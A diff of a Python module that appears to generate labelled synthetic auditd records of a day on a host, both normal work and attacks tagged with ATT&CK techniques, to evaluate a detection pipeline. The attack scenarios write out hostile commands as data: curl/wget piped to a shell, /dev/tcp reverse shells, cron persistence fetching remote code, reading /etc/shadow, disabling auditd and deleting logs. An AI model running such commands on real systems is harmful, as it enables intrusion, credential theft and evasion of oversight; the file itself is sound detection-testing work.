@@ -1,111 +1,127 @@
-"""Labelled scenarios: normal work and attacks as raw audit documents, for evaluation."""
+"""Labelled scenarios for evaluation: a day on one host, as raw audit lines.
+
+A scenario is a script with a step a line: the minute of the day, who, and either `login` with an address and its
+outcome or a program with its arguments; in brackets what else the kernel reports (a call other than execve, a path, a
+peer, an audit key). Every step becomes the records that auditd writes for it. A day has 100 records, of which 35 are
+events of their own (13 normal, 22 malicious); the rules name the expected technique of 16 of the 22, with any model.
+"""
 
 from __future__ import annotations
 
-import json
+import re
 from datetime import datetime, timedelta, timezone
+from typing import NamedTuple
 
 from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
-from .audit import from_documents
-
-BASE = datetime(2026, 6, 1, tzinfo=timezone.utc)
-
-# Scenario, expected technique (None: normal), then its commands: minute, program, uid, login id,
-# arguments, and the system call, path, audit key or address where they differ from execve and none.
-COMMANDS = (
-    ("developer_activity", None, (
-        (9, "/usr/bin/git", 1000, 1000, "git status", {}),
-        (12, "/usr/bin/ls", 1000, 1000, "ls -la", {}),
-        (15, "/usr/bin/cat", 1000, 1000, "cat README.md", {}),
-        (18, "/usr/bin/vim", 1000, 1000, "vim main.py", {}),
-        (21, "/usr/bin/python3", 1000, 1000, "python3 manage.py test", {}),
-        (24, "/usr/bin/node", 1000, 1000, "node server.js", {}),
-    )),
-    ("routine_sudo_apt", None, (
-        (600, "/usr/bin/sudo", 0, 1000, "sudo apt install -y htop", {"key": "privileged_commands"}),
-        (600.1, "/usr/bin/apt", 0, 1000, "apt install -y htop", {}),
-    )),
-    ("cron_job", None, (
-        (180, "/usr/sbin/CRON", 0, -1, "/usr/sbin/CRON -f", {"comm": "cron", "tty": "(none)"}),
-        (180.1, "/usr/bin/find", 0, -1, "find /tmp -mtime +7 -delete", {}),
-    )),
-    ("service_mgmt", None, ((300, "/usr/bin/systemctl", 0, 1000, "systemctl restart nginx", {"key": "privileged_commands"}),)),
-    ("priv_esc_root_shell", "T1548.003", (
-        (1500, "/usr/bin/sudo", 0, 1000, "sudo su -", {"key": "privileged_commands"}),
-        (1500.1, "/usr/bin/bash", 0, 1000, "bash -i", {}),
-    )),
-    ("network_scan", "T1046", ((1600, "/usr/bin/nmap", 1000, 1000, "nmap -sS -p- 192.168.10.0/24", {"addr": "192.168.10.5"}),)),
-    ("ingress_tool_transfer", "T1105", ((1700, "/usr/bin/curl", 1000, 1000, "curl -s http://203.0.113.9/x.sh | bash", {"addr": "203.0.113.9"}),)),
-    ("reverse_shell", "T1059.004", ((1800, "/usr/bin/bash", 1000, 1000, "bash -c bash -i >& /dev/tcp/203.0.113.4/4444 0>&1", {"addr": "203.0.113.4"}),)),
-    ("credential_access", "T1003.008", ((1900, "/usr/bin/cat", 0, 1000, "cat /etc/shadow", {"call": "openat", "path": "/etc/shadow", "key": "shadow"}),)),
-    ("defense_evasion", "T1562.001", ((2000, "/usr/sbin/auditctl", 0, 1000, "auditctl -e 0", {"key": "privileged_commands"}),)),
-    ("persistence_cron", "T1053.003", ((2100, "/usr/bin/bash", 0, 1000, "bash -c echo '* * * * * root curl 203.0.113.4/b|bash' > /etc/cron.d/x", {"call": "openat", "path": "/etc/cron.d/x"}),)),
-    ("persistence_account", "T1136.001", ((2200, "/usr/sbin/useradd", 0, 1000, "useradd -m -s /bin/bash -G sudo svc-backup", {"key": "identity"}),)),
-)
-# Scenario, expected technique, account, address, then minute, record type and outcome of each attempt.
-LOGINS = (
-    ("normal_ssh_login", None, "dev", "192.168.10.20", ((480, "USER_AUTH", True), (480.05, "USER_LOGIN", True))),
-    ("ssh_bruteforce", "T1110", "root", "203.0.113.66", (*((1440 + 0.2 * i, "USER_AUTH", False) for i in range(12)), (1443, "USER_AUTH", True))),
-)
-
-USERS = {0: "root", 1000: "dev"}
-HOST = {"hostname": "lab-01", "name": "lab-01", "ip": ["192.168.10.50"]}
-
-
-def document(at: datetime, sequence: int, kind: str, log: dict, line: str = "", **more) -> dict:
-    original = f"type={kind} msg=audit({at.timestamp():.3f}:{sequence}): {line}".rstrip()
-    event = {"module": "auditd", "original": original} | more.pop("event", {})
-    return {"@timestamp": at.isoformat().replace("+00:00", "Z"), "host": HOST, "event": event, "auditd": {"log": {"sequence": str(sequence), "record_type": kind} | log}} | more
-
-
-def command_documents(at: datetime, sequence: int, exe: str, uid: int, auid: int, line: str, more: dict) -> list[dict]:
-    comm, call = more.get("comm", exe.rsplit("/", 1)[-1]), more.get("call", "execve")
-    log = {"SYSCALL": call, "exe": exe, "comm": comm, "uid": str(uid), "euid": str(uid), "auid": str(auid), "success": "yes", "tty": more.get("tty", "pts0"), "AUID": USERS.get(auid, str(auid)), "UID": USERS.get(uid, str(uid))}
-    if key := more.get("key"):
-        log["key"] = key
-    words = line.split(" ", 2) if line.startswith("bash -c ") else line.split(" ")
-    raw = f'success=yes auid={auid} uid={uid} euid={uid} comm="{comm}" exe="{exe}" key={more.get("key", "(null)")}'
-    process = {"name": comm, "executable": exe, "pid": "4242", "parent": {"pid": "1000"}}
-    user = {"id": str(uid), "effective": {"id": str(uid)}, "audit": {"id": str(auid)}}
-    out = [document(at, sequence, "SYSCALL", log, raw, event={"action": call, "category": ["process"]}, process=process, user=user)]
-    out.append(document(at, sequence, "EXECVE", {f"a{i}": w for i, w in enumerate(words)}))
-    out.append(document(at, sequence, "PROCTITLE", {"proctitle": line.encode().hex()}))
-    out.append(document(at, sequence, "CWD", {"cwd": "/home/dev"}))
-    if path := more.get("path"):
-        out.append(document(at, sequence, "PATH", {"name": path}))
-    if addr := more.get("addr"):  # undecodable on purpose: there is no saddr
-        out.append(document(at, sequence, "SOCKADDR", {"addr": addr, "port": "4444"}))
+DAY = datetime(2025, 3, 3, tzinfo=timezone.utc)
+HOST, ADDRESS = "edge-07", "10.20.0.7"
+#: Account -> user id and login id (-1: no login).
+ACCOUNTS = {"mira": (1004, 1004), "mira+root": (0, 1004), "batch": (0, -1), "root": (0, 0)}
+NORMAL = {
+    "compile_and_test": """
+        551 mira /usr/bin/make -j8 all
+        553 mira /usr/bin/gcc -O2 -c parser.c
+        562 mira /usr/bin/python3 -m pytest -q tests
+        575 mira /usr/bin/less build.log
+    """,
+    "package_update": """
+        700 mira+root /usr/bin/sudo dnf upgrade -y [key=privileged_commands]
+        700.2 mira+root /usr/bin/dnf upgrade -y
+    """,
+    "night_backup": """
+        95 batch /usr/bin/rsync -a /srv/data /mnt/backup
+        97 batch /usr/bin/gzip -9 /mnt/backup/index
+    """,
+    "log_reading": "840 mira /usr/bin/journalctl -u web --since today",
+    "console_logins": """
+        545 mira login USER_AUTH 10.20.0.31 success
+        545.1 mira login USER_LOGIN 10.20.0.31 success
+        780 mira login USER_AUTH 10.20.0.31 success
+        780.1 mira login USER_LOGIN 10.20.0.31 success
+    """,
+}
+ATTACKS = {
+    "password_guessing": ("T1110", "\n".join(f"{1320 + k / 4} root login USER_AUTH 198.51.100.23 {'success' if k == 10 else 'failed'}" for k in range(11))),
+    "sudo_to_shell": ("T1548.003", "1334 mira+root /usr/bin/sudo bash [key=privileged_commands]\n1334.1 mira+root /usr/bin/sh -c id"),
+    "subnet_scan": ("T1046", "1341 mira /usr/bin/nmap -Pn 10.20.0.0/24 [peer=10.20.0.9:22]"),
+    "dropper": ("T1105", "1347 mira /usr/bin/wget -qO- http://198.51.100.40/i | sh [peer=198.51.100.40:80]"),
+    "call_home": ("T1059.004", "1352 mira /usr/bin/sh -c sh -i >& /dev/tcp/198.51.100.40/9001 0>&1 [peer=198.51.100.40:9001]"),
+    "password_file": ("T1003.008", "1358 mira+root /usr/bin/head /etc/shadow [call=openat path=/etc/shadow key=shadow]"),
+    "audit_off": ("T1562.001", "1363 mira+root /usr/bin/systemctl stop auditd"),
+    "timed_job": ("T1053.003", "1370 mira /usr/bin/crontab /tmp/jobs"),
+    "second_account": ("T1136.001", "1376 mira+root /usr/sbin/adduser helper"),
+    "group_change": ("T1098", "1380 mira+root /usr/sbin/usermod -aG wheel helper"),
+    "log_removal": ("T1070.002", "1391 mira+root /usr/bin/rm /var/log/secure [call=unlinkat path=/var/log/secure]"),
+}
+
+
+class Step(NamedTuple):
+    minute: float
+    account: str
+    program: str
+    arguments: list[str]
+    more: dict[str, str]
+
+
+def steps(script: str) -> list[Step]:
+    out = []
+    for line in filter(None, map(str.strip, script.splitlines())):
+        body, _, more = line.removesuffix("]").partition(" [")
+        minute, account, program, *arguments = body.split(" ")
+        out.append(Step(float(minute), account, program, arguments, dict(x.split("=", 1) for x in more.split())))
+    return out
+
+
+def quoted(word: str) -> str:
+    """A value as auditd writes it: quoted, or in hex where it has other than plain characters."""
+    return f'"{word}"' if re.fullmatch(r"[\w./:+-]+", word) else word.encode().hex().upper()
+
+
+def records(step: Step) -> list[tuple[str, str]]:
+    """(record type, fields as text) of a step."""
+    uid, login = ACCOUNTS[step.account]
+    if step.program == "login":
+        kind, peer, outcome = step.arguments
+        return [(kind, f"pid=811 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"{step.account}\" exe=\"/usr/sbin/sshd\" hostname={peer} addr={peer} terminal=ssh res={outcome}'")]
+    words = [step.program.rsplit("/", 1)[1], *step.arguments]
+    name = lambda i: next((a for a, (u, _) in ACCOUNTS.items() if u == i and "+" not in a and a != "batch"), "unset")
+    enriched = f"\x1dSYSCALL={step.more.get('call', 'execve')} AUID=\"{name(login)}\" UID=\"{name(uid)}\""
+    out = [("SYSCALL", f"arch=c000003e success=yes exit=0 ppid=790 pid=812 auid={login % 2**32} uid={uid} euid={uid} tty={'pts2' if login >= 0 else '(none)'} comm=\"{words[0]}\" exe=\"{step.program}\" key=\"{step.more.get('key', '(null)')}\"{enriched}")]
+    out.append(("EXECVE", " ".join([f"argc={len(words)}", *(f"a{k}={quoted(w)}" for k, w in enumerate(words))])))
+    out.append(("PROCTITLE", "proctitle=" + " ".join(words).encode().hex().upper()))
+    out.append(("CWD", 'cwd="/home/mira"'))
+    if path := step.more.get("path"):
+        out.append(("PATH", f'item=0 name="{path}"'))
+    if peer := step.more.get("peer"):
+        ip, port = peer.split(":")
+        out.append(("SOCKADDR", f"saddr=0200{int(port):04X}{bytes(map(int, ip.split('.'))).hex().upper()}0000000000000000"))
     return out
 
 
-def login_document(at: datetime, sequence: int, kind: str, account: str, address: str, ok: bool) -> dict:
-    result = "success" if ok else "failed"
-    log = {"acct": account, "exe": "/usr/sbin/sshd", "addr": address, "terminal": "ssh", "res": result, "success": "yes" if ok else "no"}
-    line = f'acct="{account}" exe="/usr/sbin/sshd" hostname={address} addr={address} terminal=ssh res={result}'
-    return document(at, sequence, kind, log, line, event={"action": "authenticated", "category": ["authentication"]})
-
-
-def generate(repeats: int = 1, base: datetime = BASE) -> list[tuple[dict, str, str | None]]:
-    """(document, scenario, expected technique) of every record; each repeat is a day later."""
-    out, sequence = [], 100_000
-    for day in range(repeats):
-        start = base + timedelta(days=day)
-        for scenario, technique, commands in COMMANDS:
-            for minute, exe, uid, auid, line, more in commands:
-                sequence += 1
-                out += [(d, scenario, technique) for d in command_documents(start + timedelta(minutes=minute), sequence, exe, uid, auid, line, more)]
-        for scenario, technique, account, address, attempts in LOGINS:
-            for minute, kind, ok in attempts:
-                sequence += 1
-                out.append((login_document(start + timedelta(minutes=minute), sequence, kind, account, address, ok), scenario, technique))
+def generate(days: int = 1, first: datetime = DAY) -> list[tuple[datetime, str, str, str | None]]:
+    """(time, line, scenario, expected technique) of every record."""
+    scripts = [(name, None, text) for name, text in NORMAL.items()] + [(name, technique, text) for name, (technique, text) in ATTACKS.items()]
+    out, event = [], 7000
+    for day in range(days):
+        for name, technique, text in scripts:
+            for step in steps(text):
+                event += 1
+                at = first + timedelta(days=day, minutes=step.minute)
+                out += [(at, f"type={kind} msg=audit({at.timestamp():.3f}:{event}): {fields}", name, technique) for kind, fields in records(step)]
     return out
 
 
-def labelled(spark: SparkSession, repeats: int = 1) -> tuple[DataFrame, DataFrame]:
+def labelled(spark: SparkSession, days: int = 1) -> tuple[DataFrame, DataFrame]:
     """(raw records, labels by ordinal)."""
-    rows = [(i, json.dumps(d), s, t) for i, (d, s, t) in enumerate(generate(repeats))]
-    docs = spark.createDataFrame(rows, "ordinal long, doc string, scenario string, expect_technique string")
-    labels = docs.select("ordinal", "scenario", F.when(F.col("expect_technique").isNull(), "normal").otherwise("malicious").alias("label"), F.col("expect_technique").isNotNull().alias("expect_alert"), "expect_technique")
-    return from_documents(docs), labels
+    made = [(k, at.replace(tzinfo=None), line, name, technique) for k, (at, line, name, technique) in enumerate(generate(days))]
+    rows = spark.createDataFrame(made, "ordinal long, at timestamp_ntz, line string, scenario string, expect_technique string")
+    attack = F.col("expect_technique").isNotNull()
+    labels = rows.select("ordinal", "scenario", F.when(attack, "malicious").otherwise("normal").alias("label"), attack.alias("expect_alert"), "expect_technique")
+    none = {c: F.lit(None).cast("string").alias(c) for c in ("original", "module", "action", "process_name", "executable", "pid", "ppid", "user_id", "effective_id", "audit_id")}
+    raw = rows.select(
+        "ordinal", F.col("at").cast("timestamp").alias("ts"), F.col("line").alias("message"), none["original"], none["module"], none["action"], F.lit(None).cast("array<string>").alias("category"),
+        F.lit(HOST).alias("hostname"), F.lit(HOST).alias("host_name"), F.array(F.lit(ADDRESS)).alias("host_ip"), *(none[c] for c in list(none)[3:]), F.lit(None).cast("map<string,string>").alias("log"),
+    )
+    return raw, labels
